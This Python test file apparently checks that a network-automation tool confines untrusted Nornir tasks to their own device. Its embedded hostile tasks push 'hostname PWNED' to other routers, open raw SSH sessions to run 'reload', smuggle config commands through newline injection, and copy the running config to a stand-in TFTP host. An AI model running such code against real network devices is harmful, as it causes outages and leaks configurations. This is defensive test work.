"""Tasks of strangers, run by the real command line under every profile: the device is what it was, and so are the others."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from nornflow.testing import Fleet
from nornflow.testing.project import Outcome, ProjectFolder

TASKS = '''
"""What an author may write who wants more than the step was given; each attack swallows what stops it."""
import contextlib
import threading

from nornir.core.inventory import Host
from nornir.core.task import Result
from nornir.plugins.runners import SerialRunner, ThreadedRunner

LINE = "hostname PWNED"


def _push(task):
    task.host.get_connection("netmiko", task.nornir.config).send_config_set([LINE])


def _everywhere(task, nornir):
    with contextlib.suppress(Exception):
        nornir.run(task=_push)
    return Result(task.host)


def nested_run(task):
    return _everywhere(task, task.nornir)


def nested_filtered(task):
    return _everywhere(task, task.nornir.filter(name="r2"))


def nested_serial(task):
    return _everywhere(task, task.nornir.with_runner(SerialRunner()))


def nested_threads(task):
    return _everywhere(task, task.nornir.with_runner(ThreadedRunner(num_workers=4)))


def of_a_thread(task):
    thread = threading.Thread(target=_everywhere, args=(task, task.nornir))
    thread.start()
    thread.join()
    return Result(task.host)


def subtask_elsewhere(task):
    with contextlib.suppress(Exception):
        type(task)(_push, task.nornir, processors=task.processors).start(task.nornir.inventory.hosts["r2"])
    for host in task.nornir.inventory.hosts.values():
        with contextlib.suppress(Exception):
            host.get_connection("netmiko", task.nornir.config).send_config_set([LINE])
    return Result(task.host)


def nornirs_own_opening(task):
    with contextlib.suppress(Exception):
        Host.open_connection(task.host, "netmiko", task.nornir.config)
    with contextlib.suppress(Exception):
        task.host.connections["netmiko"].connection.send_config_set([LINE])
    return Result(task.host)


def own_session(task):
    from netmiko import ConnectHandler

    host = task.host
    with contextlib.suppress(Exception):
        ConnectHandler(
            device_type="cisco_ios", host=host.hostname, port=host.port, username=host.username, password=host.password
        ).send_config_set([LINE])
    parameters = host.get_connection_parameters("netmiko")
    with contextlib.suppress(Exception):
        import paramiko

        transport = paramiko.Transport((parameters.hostname, parameters.port))
        transport.connect(username=parameters.username, password=parameters.password)
        transport.open_session().exec_command("reload")
    return Result(task.host)


def file_transfer(task):
    from nornir_netmiko.tasks import netmiko_file_transfer

    with contextlib.suppress(Exception):
        task.run(netmiko_file_transfer, source_file=__file__, dest_file="pwned", disable_md5=True)
    return Result(task.host)


def other_object(task):
    connection = task.host.get_connection("netmiko", task.nornir.config)
    for attempt in (
        lambda: connection.remote_conn.sendall(b"configure terminal\\nhostname PWNED\\nend\\n"),
        lambda: connection.remote_conn.transport.open_session().exec_command("reload"),
        lambda: connection.write_channel("configure terminal\\nhostname PWNED\\nend\\n"),
        lambda: connection.send_command("show version\\nconfigure terminal\\nhostname PWNED", expect_string="#"),
        lambda: connection.send_command_timing("configure terminal\\rhostname PWNED\\rend"),
        lambda: connection.send_config_set([LINE + "\\n"], config_mode_command="reload", bypass_commands=".*"),
        lambda: connection.save_config(cmd="copy running-config tftp://192.0.2.9/loot", confirm=True),
        lambda: connection.run_ttp("<macro>\\nraise SystemExit\\n</macro>"),
    ):
        with contextlib.suppress(Exception):
            attempt()
    return Result(task.host)
'''
ATTACKS = [
    *("nested_run", "nested_filtered", "nested_serial", "nested_threads", "of_a_thread", "subtask_elsewhere"),
    *("nornirs_own_opening", "own_session", "file_transfer", "other_object"),
]
SILENT = {"own_session", "of_a_thread", "nested_threads"}
"""Nothing of these happens in the step's own thread or on its connection: they are stopped, and nobody is told."""


@pytest.fixture(scope="module")
def routers() -> Iterator[Fleet]:
    with Fleet(2, prefix="r") as fleet:
        yield fleet


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory, routers: Fleet) -> ProjectFolder:
    made = ProjectFolder.made(tmp_path_factory.mktemp("hostile") / "project", {}, routers)
    made.write("tasks/hostile.py", TASKS)
    return made


def _told(outcome: Outcome) -> str:
    return f"{outcome.stdout}\n{outcome.stderr}"


def _states(routers: Fleet) -> list[tuple[Any, ...]]:
    counted = ("saves", "reloads", "config_lines")
    return [
        (r.running_config, r.startup_config, *(getattr(r.counters, name) for name in counted))
        for r in (routers["r1"], routers["r2"])
    ]


@pytest.mark.parametrize("profile", ["plan_only", "restricted", "standard", "elevated"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_step_that_may_read_changes_nothing_anywhere(
    attack: str, profile: str, project: ProjectFolder, routers: Fleet
) -> None:
    steps = [
        {"id": "it", "type": "nornir.task", "task": f"tasks.hostile.{attack}", "access": "read"},
        # what follows needs what the first step says, so that the task is run while planning too
        {
            "id": "then",
            "type": "netmiko.config",
            "lines": ["ntp server 192.0.2.{{ 1 if steps.it else 2 }}"],
            "depends_on": ["it"],
        },
    ]
    document = {"name": "change", "version": "1.0", "rollout": {"batches": [1, "100%"]}, "steps": steps}
    project.write("change.yaml", json.dumps(document))
    before = _states(routers)

    for words in (("plan", "change.yaml"), ("run", "change.yaml", "--yes")):
        outcome = project.run(*words, "--profile", profile)
        assert _states(routers) == before
        assert "internal error" not in _told(outcome)
        if words[0] == "run" and profile != "plan_only" and attack not in SILENT:
            assert outcome.exit_code == 1, outcome
            assert "hostile" not in _told(outcome).replace(f"tasks.hostile.{attack}", "")


@pytest.mark.parametrize("attack", [name for name in ATTACKS if name != "other_object"])
def test_a_step_that_may_configure_does_so_on_its_own_device_alone(
    attack: str, project: ProjectFolder, routers: Fleet
) -> None:
    step = {"id": "it", "type": "nornir.task", "task": f"tasks.hostile.{attack}"}
    document = {"name": "change", "version": "1.0", "targets": {"hosts": ["r1"]}, "steps": [step]}
    project.write("change.yaml", json.dumps(document))
    before = _states(routers)[1]

    outcome = project.run("run", "change.yaml", "--yes", "--limit", "r1")

    assert _states(routers)[1] == before
    assert "internal error" not in _told(outcome)
    assert "PWNED" not in routers["r2"].running_config


def test_a_task_cannot_close_the_sessions_of_other_devices(project: ProjectFolder) -> None:
    project.write(
        "tasks/closing.py",
        """
        import threading

        TOGETHER = threading.Barrier(2, timeout=20)


        def close_all(task):
            connection = task.host.get_connection("netmiko", task.nornir.config)
            TOGETHER.wait()
            others = [h for h in task.nornir.inventory.hosts.values() if h.name != task.host.name]
            for host in others if task.host.name == "r1" else ():
                try:
                    host.close_connections()
                except Exception:
                    pass
            TOGETHER.wait()
            return connection.send_command("show version")
        """,
    )
    step = {"id": "it", "type": "nornir.task", "task": "tasks.closing.close_all", "access": "read"}
    project.write("change.yaml", json.dumps({"name": "change", "version": "1.0", "steps": [step]}))

    outcome = project.run("run", "change.yaml", "--yes", "--format", "json")

    states = {host["host"]: host for host in outcome.json()["hosts"]}
    assert "may not close the sessions of r2" in states["r1"]["error"]
    assert states["r2"]["state"] == "ok"
